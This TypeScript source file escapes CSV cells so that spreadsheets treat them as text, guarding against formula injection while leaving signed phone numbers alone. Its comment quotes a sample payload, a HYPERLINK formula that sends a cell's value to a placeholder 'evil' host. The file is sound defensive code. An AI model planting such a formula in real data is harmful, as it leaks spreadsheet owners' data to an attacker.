/**
 * CSV formula injection guard (OWASP "CSV Injection"): a cell that starts
 * with = + - @ tab or CR is run as a formula by Excel/LibreOffice/Sheets, so
 * `=HYPERLINK("http://evil/?"&A1)` typed into a web form becomes code on the
 * owner's machine. Such cells get a leading apostrophe, which spreadsheets
 * read as "this is text".
 *
 * Exception: a + or - followed only by digits, spaces, dots, parentheses and
 * dashes ("+1 310 555 0142", "-12.50") is left alone. It cannot call a
 * function or reach DDE (no letters, no | or !), and every E.164 phone number
 * would otherwise be exported as '+1…. A value that already starts with
 * apostrophes before one of those characters gets one more, so that import
 * (which removes exactly one: see cellText) gives back what was stored.
 */
const formulaStart = /^[=+\-@\t\r]/;
const signedNumber = /^[+-][\d\s().-]*\d[\d\s().-]*$/;
const alreadyNeutralised = /^'+[=+\-@\t\r]/;

export function neutraliseCell(value: string): string {
  if (alreadyNeutralised.test(value)) return `'${value}`;
  if (!formulaStart.test(value) || signedNumber.test(value)) return value;
  return `'${value}`;
}
